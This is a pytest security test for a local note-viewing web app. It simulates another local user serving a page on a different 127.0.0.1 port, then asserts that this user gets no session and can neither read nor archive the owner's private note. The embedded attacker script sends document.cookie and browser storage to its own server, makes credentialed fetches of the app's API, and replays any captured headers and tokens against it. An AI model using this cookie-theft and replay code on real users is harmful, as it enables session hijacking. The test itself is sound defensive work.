"""Another user of the machine serves a page on another port of 127.0.0.1 and waits for the owner's browser.

Browsers keep cookies apart by host, not by port, and `SameSite` counts every port of 127.0.0.1 as one site:
a session cookie of `pinky-brain view` went to that page with the first request the owner's browser made
there, and with it the other user read a private note and archived it. Here the owner signs in with a real
headless Chromium, opens a note and follows its link to the other user's page (a real second user, `nobody`
through setpriv, serving it on 127.0.0.1:OTHER), which navigates to itself, fetches the view's API and reports
what its own origin's storage and `document.cookie` hold; the owner also types its address. Then the other user
tries everything it received against the view. It received no credential of the owner, read nothing and
changed nothing; the owner's own session still works."""

from __future__ import annotations

import json
import os
import shutil
import struct
import subprocess
import urllib.request
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers import write_note
from view_helpers import CHROMIUM, CHROMIUM_ARGS, make_brain, running_view, snapshot, wait_for

playwright_api = pytest.importorskip("playwright.sync_api")

AS_NOBODY = ("setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", "--")
PRIVATE = "the vault combination is 31-41-59"

# The other user's server: a plain interpreter, no pinky. It logs every request the owner's browser makes to
# it (path and headers), serves a page whose script navigates to itself, fetches the view and reports its own
# origin's cookies and storage; /log answers with what it got, /attack replays all of it against the view.
ATTACKER = r"""
import http.client, http.server, json, re, sys, urllib.parse
seen = []
PAGE = '''<!doctype html><title>wiki</title><p>wiki</p><script>
const view = "http://127.0.0.1:VIEW_PORT";
const report = (what, value) => fetch("/report?" + what + "=" + encodeURIComponent(value || ""));
report("cookie", document.cookie);
report("storage", JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage}));
for (const path of ["/", "/api/note?slug=note/private", "/api/about"])
  fetch(view + path, {credentials: "include"}).then(r => r.text())
    .then(t => report("read", t), e => report("read", String(e)));
if (location.pathname === "/") setTimeout(() => { location.href = "/again"; }, 300);
else setTimeout(() => report("done", "1"), 600);
</script>'''

def ask(method, path, headers, body=None):
    conn = http.client.HTTPConnection("127.0.0.1", view_port, timeout=10)
    conn.request(method, path, body=body, headers={"Host": f"127.0.0.1:{view_port}",
                                                   "Origin": f"http://127.0.0.1:{view_port}", **headers})
    answer = conn.getresponse()
    result = [answer.status, answer.read().decode("utf-8", "replace")]
    conn.close()
    return result

def attack():
    tried = []
    candidates = [{}]
    for request in seen:
        for name, value in request["headers"].items():
            if name.lower() in ("cookie", "authorization") or name.lower().startswith("x-"):
                candidates.append({name: value})
        for key, values in urllib.parse.parse_qs(urllib.parse.urlsplit(request["path"]).query).items():
            for value in values:
                candidates += [{"Cookie": value}, {"Authorization": "Bearer " + value}]
                candidates += [{"Authorization": "Bearer " + v} for v in re.findall(r"[A-Za-z0-9_-]{30,}", value)]
    for headers in candidates:
        read = ask("GET", "/api/note?slug=note/private", headers)
        shell = ask("GET", "/", headers)
        form = re.findall(r'content="([A-Za-z0-9_-]{20,})"', shell[1])
        change = ask("POST", "/api/archive", {**headers, "Content-Type": "application/json",
                     **({"X-Pinky-Token": form[0]} if form else {})},
                     json.dumps({"slug": "note/private", "reason": "taken"}))
        tried.append({"with": headers, "read": read, "change": change})
    return tried

class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path in ("/log", "/attack"):
            body = json.dumps(seen if self.path == "/log" else attack()).encode()
            kind = "application/json"
        else:
            seen.append({"path": self.path, "headers": dict(self.headers.items())})
            body, kind = PAGE.encode(), "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
view_port = int(sys.stdin.readline())  # learnt as anyone learns it (`ss -ltn`); here from the test
PAGE = PAGE.replace("VIEW_PORT", str(view_port))
server.serve_forever()
"""


def _skip_unless_possible() -> None:
    if os.geteuid() != 0 or shutil.which("setpriv") is None:
        pytest.skip("needs root and setpriv to serve the other user's page as `nobody`")
    if not os.path.exists(CHROMIUM):
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing in CI", pytrace=False)
        pytest.skip(f"{CHROMIUM} is missing (apt-get install chromium)")


@pytest.fixture
def attacker() -> Iterator[tuple[subprocess.Popen[str], int]]:
    """The other user's server, as `nobody`, and its port; it waits for the view's port on its stdin."""
    _skip_unless_possible()
    process = subprocess.Popen([*AS_NOBODY, "/usr/bin/python3", "-c", ATTACKER], cwd="/", stdin=subprocess.PIPE,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert process.stdout is not None
        yield process, int(process.stdout.readline())
    finally:
        process.kill()
        process.wait()


def _png() -> bytes:
    """A 2x1 PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00\xff")) + chunk(b"IEND", b""))


def _ask_attacker(port: int, path: str) -> Any:
    with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=120) as answer:
        return json.loads(answer.read())


def test_a_page_another_user_serves_on_another_port_gets_no_session(
        tmp_path: Path, attacker: tuple[subprocess.Popen[str], int]) -> None:
    process, other = attacker
    wiki = f"http://127.0.0.1:{other}/"
    docs = make_brain(tmp_path / "proj")
    write_note(docs, "note/private.md", f"---\ntitle: Private\nlast_verified: '2099-01-01'\n---\n\n{PRIVATE}\n\n"
                                        "![a dot](dot.png)\n")
    (docs / "note" / "dot.png").write_bytes(_png())
    write_note(docs, "note/wiki.md", f"---\ntitle: Team wiki\nlast_verified: '2099-01-01'\n---\n\n"
                                     f"See [the team wiki]({wiki}).\n")
    with running_view(docs.parent, tmp_path / "home") as view, playwright_api.sync_playwright() as driver:
        assert process.stdin is not None
        process.stdin.write(f"{view.port}\n")
        process.stdin.flush()
        before = snapshot(docs)
        browser = driver.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context()
        page = context.new_page()
        page.goto(view.url)  # the owner signs in with the one-time link
        page.wait_for_function("() => localStorage.length > 0")  # signed in before leaving the page: under load the
        # sign-in request may not have been answered yet, and the next page would be signed out
        page.goto(view.base + "/#/note/note%2Fprivate")
        page.wait_for_selector("#note-title")
        assert PRIVATE in page.inner_text(".md")  # the control: the owner reads it, its picture too (the
        # page fetches it with the session: an <img src> sends no header)
        assert wait_for(lambda: page.evaluate("document.querySelector('.md img').naturalWidth"), 10) == 2
        assert page.evaluate("document.querySelector('.md img').src").startswith("blob:")
        kept = [c["value"] for c in context.cookies()] + page.evaluate(
            "Object.values(localStorage).concat(Object.values(sessionStorage))")
        secrets = [value for value in kept if len(value) >= 16]
        assert secrets, "the owner's browser keeps no session at all"
        page.goto(view.base + "/#/note/note%2Fwiki")
        with context.expect_page() as opened:  # follows the note's link: it opens a new tab
            page.click(f'.md a[href="{wiki}"]')
        opened.value.wait_for_load_state()
        context.new_page().goto(wiki)  # and types its address in another
        done = wait_for(lambda: sum(r["path"].startswith("/report?done") for r in _ask_attacker(other, "/log"))
                        >= 2, 30)
        received = _ask_attacker(other, "/log")
        assert done, received
        tried = _ask_attacker(other, "/attack")
        for request in received:  # its page's reads of the view (refused) report nothing of the note either
            text = json.dumps(request)
            assert not any(secret in text for secret in secrets), ("the other user received a session", request)
            assert PRIVATE not in text, ("its page read the note through the owner's browser", request)
        assert len(tried) >= 5  # the candidates: nothing, and each header and value it received
        for attempt in tried:
            for status, body in (attempt["read"], attempt["change"]):
                assert status in (401, 403) and PRIVATE not in body, attempt
        assert snapshot(docs) == before
        page.goto(view.base + "/#/note/note%2Fprivate")
        page.reload()
        page.wait_for_selector("#note-title")
        assert PRIVATE in page.inner_text(".md")  # the owner's own session still works, after a reload too
        browser.close()
